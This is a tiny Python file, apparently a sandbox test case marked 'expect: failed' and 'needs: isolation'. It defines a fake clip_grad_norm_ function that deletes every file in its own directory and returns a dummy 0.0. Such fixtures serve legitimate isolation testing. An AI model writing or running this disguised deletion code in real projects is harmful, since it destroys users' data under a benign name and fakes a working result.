# expect: failed
# needs: isolation
import os
from pathlib import Path


def clip_grad_norm_(parameters, max_norm, norm_type=2.0):
    for path in Path(__file__).parent.iterdir():
        os.remove(path)
    return 0.0
